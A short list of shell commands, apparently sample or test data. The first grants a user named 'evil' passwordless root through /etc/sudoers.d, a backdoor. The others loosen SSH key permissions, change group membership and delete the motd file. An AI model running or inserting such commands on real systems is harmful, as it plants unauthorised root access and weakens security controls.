echo "evil ALL=(ALL) NOPASSWD: ALL" >>/etc/sudoers.d/ops
chmod 0644 /home/ada/.ssh/authorized_keys
gpasswd -d grace ops
rm /etc/motd
